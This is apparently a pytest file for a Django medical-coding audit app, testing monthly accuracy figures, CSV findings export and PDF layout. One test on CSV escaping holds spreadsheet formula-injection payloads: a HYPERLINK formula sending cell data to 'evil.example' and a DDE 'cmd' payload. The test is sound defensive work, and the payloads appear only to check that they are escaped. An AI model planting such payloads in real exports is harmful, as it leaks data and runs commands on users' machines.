"""The month report's figures, computed from fetched data alone (no database: no mark)."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.utils import timezone

from audits.models import CHECKLIST, AuditSample
from audits.reports import findings_csv, month_pdf, month_report
from audits.selectors import ChartInfo, MonthReportInfo, ReviewInfo, TrendPoint, UserInfo
from tests.audits.helpers import pdf_pages, pdf_text

MONTH = datetime.date(2026, 3, 1)
OFFICER = UserInfo(username="officer", name="Olive Officer")


def review(outcome="supported", *, code="", comment="", acknowledged=False, **checks):
    values = {name: "met" for name in CHECKLIST} | checks
    return ReviewInfo(
        outcome=outcome,
        reviewer_code=code,
        comment=comment,
        checks=tuple(values.items()),
        reviewer=OFFICER,
        reviewed_at=timezone.make_aware(datetime.datetime(2026, 4, 2, 9, 30)),
        acknowledged_by=UserInfo(username="drlee", name="Dana Lee") if acknowledged else None,
        acknowledged_at=timezone.make_aware(datetime.datetime(2026, 4, 3, 8))
        if acknowledged
        else None,
    )


def chart(position, clinician, codes, chart_review=None):
    return ChartInfo(
        position=position,
        encounter_id=100 + position,
        patient_id=200 + position,
        part2=False,
        date_of_service=MONTH.replace(day=position),
        clinician_id=len(clinician),
        clinician_name=clinician,
        billed_codes=tuple(codes),
        billed_text=" + ".join(codes),
        review=chart_review,
    )


def info(*charts, month_counts=(), target=0.95):
    sample = AuditSample(month=MONTH, seed=7, requested_size=5, population_size=9)
    return MonthReportInfo(
        sample=sample, target=target, charts=tuple(charts), month_counts=tuple(month_counts)
    )


def test_au_3_accuracy_counts_reviewed_charts_only():
    report = month_report(
        info(
            chart(1, "Lee", ["99214", "90833"], review()),
            chart(2, "Lee", ["99214"], review("over_coded", code="99213", comment="Low MDM.")),
            chart(3, "Ng", ["90837"], review()),
            chart(4, "Ng", ["90837"]),  # not reviewed yet
        )
    )
    assert report.charts == 4
    assert (report.overall.supported, report.overall.reviewed) == (2, 3)
    assert report.accuracy == pytest.approx(2 / 3)
    assert report.meets_target is False
    assert [chart.position for chart in report.rows] == [1, 2, 3, 4]


def test_au_3_target_met_and_no_reviews_yet():
    assert month_report(info(chart(1, "Lee", ["90834"], review()), target=1.0)).meets_target
    empty = month_report(info(chart(1, "Lee", ["90834"])))
    assert empty.accuracy is None
    assert empty.meets_target is None
    assert empty.by_clinician == empty.by_code == ()


def test_findings_by_check_leave_out_items_that_did_not_apply():
    report = month_report(
        info(
            chart(1, "Lee", ["90834"], review(check_em_level="na")),
            chart(
                2, "Lee", ["99214"], review("over_coded", code="99213", check_em_level="not_met")
            ),
            chart(3, "Lee", ["99214"], review(check_diagnoses="not_met")),
        )
    )
    rows = {label: (not_met, applicable) for label, not_met, applicable in report.by_check}
    assert list(rows) == list(CHECKLIST.values())
    assert rows[CHECKLIST["check_em_level"]] == (1, 2)
    assert rows[CHECKLIST["check_diagnoses"]] == (1, 3)
    assert rows[CHECKLIST["check_time_blocks"]] == (0, 3)


def test_by_clinician_and_by_code_are_sorted_and_count_a_chart_once_per_code():
    report = month_report(
        info(
            chart(1, "Ng", ["99214", "90833"], review()),
            chart(2, "Lee", ["90832", "90832"], review("not_supported", comment="No times.")),
            chart(3, "Lee", ["99214"], review("under_coded", code="99215", comment="High risk.")),
        )
    )
    assert [(t.label, t.supported, t.reviewed) for t in report.by_clinician] == [
        ("Lee", 0, 2),
        ("Ng", 1, 1),
    ]
    by_code = {t.label: t for t in report.by_code}
    assert list(by_code) == ["90832", "90833", "99214"]
    assert by_code["90832"].reviewed == 1  # two lines of one chart
    assert dict(by_code["99214"].outcome_counts) == {
        "Supported": 1,
        "Over-coded": 0,
        "Under-coded": 1,
        "Not supported (documentation missing)": 0,
    }


def test_trend_has_twelve_months_ending_with_the_sample_and_zero_for_months_not_drawn():
    counts = [
        TrendPoint(month=datetime.date(2025, 12, 1), reviewed=4, supported=3),
        TrendPoint(month=MONTH, reviewed=5, supported=5),
    ]
    trend = month_report(info(month_counts=counts)).trend
    assert len(trend) == 12
    assert trend[0].month == datetime.date(2025, 4, 1)
    assert trend[-1] == counts[1]
    assert trend[-4] == counts[0]
    assert trend[-2] == TrendPoint(month=datetime.date(2026, 2, 1), reviewed=0, supported=0)
    assert trend[-2].accuracy is None
    assert trend[-4].accuracy == pytest.approx(0.75)


def test_findings_csv_writes_each_chart_from_the_fetched_data():
    report = month_report(
        info(
            chart(
                1,
                "Lee",
                ["99214", "90833"],
                review(
                    "over_coded",
                    code="99213",
                    comment="@x",
                    acknowledged=True,
                    check_em_level="not_met",
                ),
            ),
            chart(2, "Ng", ["90837"]),
        )
    )
    reviewed, pending = csv.DictReader(io.StringIO(findings_csv(report)))
    assert reviewed["month"] == "2026-03"
    assert reviewed["encounter"] == "101"
    assert reviewed["billed"] == "99214 + 90833"
    assert reviewed["check_em_level"] == "not_met"
    assert reviewed["comment"] == "'@x"
    assert reviewed["reviewer"] == "officer"
    assert reviewed["acknowledged_by"] == "drlee"
    assert reviewed["reviewed_at"].startswith("2026-04-02T09:30")
    assert pending["outcome"] == "not reviewed"
    assert pending["acknowledged_by"] == ""


def test_findings_csv_escapes_every_text_cell_a_spreadsheet_would_run():
    """Issue 10: ``=1+HYPERLINK(...)`` and ``-2+3+cmd|...`` got past the old digit exception."""
    report = month_report(
        info(
            chart(
                1,
                '=1+HYPERLINK("http://evil.example/?"&A1,"Click")',
                ["99214"],
                review("over_coded", code="-2+3+cmd|' /C calc'!A0", comment="\t=1+1"),
            )
        )
    )
    (row,) = csv.DictReader(io.StringIO(findings_csv(report)))
    assert row["clinician"] == '\'=1+HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["reviewer_code"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["comment"] == "'\t=1+1"
    assert row["encounter"] == "101"  # a number, written as a number


def test_month_pdf_prints_names_outside_latin_1():
    """The core PDF fonts are Latin-1: "Đặng" came out as "?"."""
    report = month_report(info(chart(1, "Zoë Ñúñez", ["99214"]), chart(2, "Đặng", ["90837"])))
    text = pdf_text(month_pdf(report, generated_by="Olive Officer"))
    assert "Zoë Ñúñez" in text
    assert "Đặng" in text


def test_month_pdf_wraps_long_checklist_text_and_comments():
    """Table cells were cut at the column width: the long checklist items lost their end."""
    report = month_report(info(chart(1, "Lee", ["99214"], review(check_em_level="not_met"))))
    text = pdf_text(month_pdf(report, generated_by="Olive Officer"))
    for label in CHECKLIST.values():
        last_word = label.split()[-1]
        assert last_word in text, label


def test_month_pdf_keeps_the_trend_heading_with_its_chart():
    """With the heading at a page's foot, the chart went to the next page alone."""
    for comments in range(30):
        charts = [
            chart(n, "Lee", ["99214"], review(comment="A comment for the clinician."))
            for n in range(1, comments + 2)
        ]
        pages = pdf_pages(month_pdf(month_report(info(*charts)), generated_by="Olive Officer"))
        (heading_page,) = [page for page in pages if "Trend, last 12 months" in page]
        after_heading = heading_page.split("Trend, last 12 months", 1)[1]
        assert " cm /GS" in after_heading, comments  # the chart drawing follows its heading
        chart_page = pages.index(heading_page)
        assert "Filed by" in "".join(pages[chart_page:])
